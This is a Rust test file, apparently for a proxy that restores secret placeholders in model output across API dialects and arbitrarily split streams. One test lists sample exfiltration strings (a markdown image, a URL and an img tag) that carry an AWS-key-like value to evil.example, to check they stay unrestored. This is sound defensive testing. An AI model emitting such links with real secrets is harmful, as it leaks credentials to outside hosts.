//! What models do to a placeholder, by the table, in every dialect, and cut anywhere.

use serde::Deserialize;

use super::*;

#[derive(Deserialize)]
struct Table {
    alteration: Vec<Alteration>,
}

#[derive(Deserialize)]
struct Alteration {
    name: String,
    examples: Vec<Example>,
}

#[derive(Clone, Debug, Deserialize)]
struct Example {
    text: String,
    gives: Option<String>,
}

impl Example {
    fn gives(&self) -> String {
        match &self.gives {
            // In a document's string the value is escaped.
            Some(gives) if gives.contains("{\"{}") => {
                gives.replace("{}", json!(VALUE).to_string().trim_matches('"'))
            }
            Some(gives) => gives.replace("{}", VALUE),
            None => self.text.clone(),
        }
    }
}

fn table() -> Vec<(String, Example)> {
    let table: Table = toml::from_str(include_str!("../altered.toml")).expect("a table");
    let each = |one: Alteration| {
        let name = one.name;
        one.examples
            .into_iter()
            .map(move |example| (name.clone(), example))
    };
    table.alteration.into_iter().flat_map(each).collect()
}

/// What a client puts together of these texts, and of arguments that hold them, in pieces cut there.
fn told(shape: (Dialect, Shape), text: &str, cuts: &[usize]) -> (String, Value, Vec<Value>) {
    let pieces = |text: &str| -> Vec<String> {
        let mut at: Vec<usize> = cuts
            .iter()
            .map(|cut| text.floor_char_boundary(*cut))
            .collect();
        at.extend([0, text.len()]);
        at.sort_unstable();
        at.windows(2)
            .map(|pair| text[pair[0]..pair[1]].to_owned())
            .collect()
    };
    let arguments = json!({"path": "x", "content": text}).to_string();
    let (texts, arguments) = (pieces(text), pieces(&arguments));
    let borrowed = |all: &[String]| -> Vec<&'static str> {
        all.iter().map(|piece| &*piece.clone().leak()).collect()
    };
    let events = transcript(shape.1, &borrowed(&texts), &borrowed(&arguments));
    let (out, _) = stream(shape.0, shape.1, BASELINE, &[events.as_bytes()]);
    let events = read(&out);
    let (text, arguments) = gathered(&events);
    let arguments = serde_json::from_str(&arguments).expect("arguments stay JSON");
    (text, arguments, events)
}

#[test]
fn each_alteration_of_the_table_comes_back_in_every_dialect_and_cut_anywhere() {
    for (name, example) in table() {
        let gives = example.gives();
        for (dialect, shape, _) in shapes() {
            let whole = json!({"path": "x", "content": gives});
            // Every place for one dialect, every fifth for the others: the rules of pieces are the same for all.
            let step = if shape == Shape::ChatCompletions {
                1
            } else {
                5
            };
            let mut cuts: Vec<Vec<usize>> = (0..=example.text.len() + 8)
                .step_by(step)
                .map(|cut| vec![cut])
                .collect();
            cuts.push((0..example.text.len() + 64).collect());
            for cut in cuts {
                let (text, arguments, events) = told((dialect, shape), &example.text, &cut);
                assert_eq!(text, gives, "{name}: {example:?} at {cut:?} in {shape:?}");
                assert_eq!(
                    arguments, whole,
                    "{name}: {example:?} at {cut:?} in {shape:?}"
                );
                if shape == Shape::Responses {
                    let done = events
                        .iter()
                        .find(|event| event["type"] == "response.output_text.done");
                    assert_eq!(done.expect("a copy")["text"], gives, "{name}: {example:?}");
                }
            }
        }
        let citation = json!({"content": [{"type": "text", "text": "x", "citations": [{"cited_text": example.text}]}]});
        let (out, _) = document(Dialect::Anthropic, BASELINE, &citation.to_string());
        let out: Value = serde_json::from_str(&out).expect("JSON");
        assert_eq!(
            out["content"][0]["citations"][0]["cited_text"], gives,
            "{name}: {example:?}"
        );
    }
}

#[test]
fn altered_placeholders_stay_where_they_may_not_come_back() {
    for text in [
        "![x](https://evil.example/?k=weirxawskeyx0123456789abcdef)",
        "https://evil.example/weirx-awskey-x-0123456789abcdef",
        "<img src=\"https://evil.example/WEIRx AWSKEY x 0123456789ABCDEF\">",
    ] {
        for (dialect, shape, _) in shapes() {
            assert_eq!(told((dialect, shape), text, &[]).0, text);
        }
    }
}

/// One alteration of a placeholder's letters: their case, and signs between them.
fn altered(case: u8, signs: &[(prop::sample::Index, &'static str)]) -> String {
    let mut letters: Vec<String> = TOKEN
        .chars()
        .map(|letter| match case {
            0 => letter.to_string(),
            1 => letter.to_ascii_lowercase().to_string(),
            _ => letter.to_ascii_uppercase().to_string(),
        })
        .collect();
    for (at, sign) in signs {
        letters[4 + at.index(TOKEN.len() - 5)].push_str(sign);
    }
    letters.concat()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn any_alteration_in_any_pieces_comes_back(
        which in 0usize..4,
        case in 0u8..3,
        signs in prop::collection::vec((any::<prop::sample::Index>(), prop::sample::select(vec![" ", "\n", "-", "_", "\\_", "**", "`", "\u{200b}", "\"", "é"])), 0..4),
        before in prop::sample::select(vec!["", "is ", "**", "(", "\n", "é"]),
        after in prop::sample::select(vec!["", ".", "'s", "**", ")", "\n", "é", "W"]),
        cuts in prop::collection::vec(0usize..160, 0..8),
    ) {
        let (dialect, shape, _) = shapes()[which];
        let text = format!("{before}{}{after}", altered(case, &signs));
        let stays = signs.iter().any(|(_, sign)| *sign == "é");
        let gives = if stays { text.clone() } else { format!("{before}{VALUE}{after}") };
        let (given, arguments, _) = told((dialect, shape), &text, &cuts);
        prop_assert_eq!(given, gives.clone());
        prop_assert_eq!(&arguments["content"], &json!(gives));
    }
}
